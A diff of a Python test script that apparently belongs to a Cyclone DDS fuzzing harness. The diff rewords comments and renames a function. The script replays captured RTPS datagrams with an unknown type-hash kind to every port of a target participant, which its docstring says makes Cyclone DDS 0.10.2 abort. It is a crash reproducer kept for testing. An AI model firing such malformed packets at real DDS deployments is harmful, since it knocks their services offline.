@@ -1,10 +1,9 @@
 #!/usr/bin/env python3
-"""Tells a participant of endpoints whose types are identified by no known kind of hash, at which
-Cyclone DDS 0.10.2 aborts.
+"""Announces endpoints whose types have a hash of an unknown kind. Cyclone DDS 0.10.2 aborts at them.
 
 usage: deadly.py --capture FILE --pid PID
 
-FILE is what tests/rtps/peer sent (fuzz.py); PID the participant's process.
+FILE holds the datagrams of tests/rtps/peer (see fuzz.py). PID is the attacked participant's process.
 """
 import argparse
 import struct
@@ -16,7 +15,7 @@ TYPE_INFORMATION = b"\x75\0"
 HASH_MINIMAL, HASH_OF_NO_KIND = b"\xf1", b"\xff"
 
 
-def spoiled(datagram):
+def with_unknown_hash(datagram):
     at = datagram.find(TYPE_INFORMATION)
     if at < 0:
         return datagram
@@ -35,9 +34,9 @@ def main():
     out = own_socket()
     until = time.monotonic() + 5
     while len(Reporter.open_ports(options.pid)) < 3 and time.monotonic() < until:
-        time.sleep(0.05)  # it only begins
+        time.sleep(0.05)  # it is still starting
     for number, datagram in enumerate(datagrams):
-        datagram = from_port(spoiled(datagram).replace(own, prefix).replace(target, to), out.getsockname()[1])
+        datagram = from_port(with_unknown_hash(datagram).replace(own, prefix).replace(target, to), out.getsockname()[1])
         for port in Reporter.open_ports(options.pid):
             out.sendto(datagram, ("127.0.0.1", port))
         time.sleep(0.3 if number == 0 else 0.001)
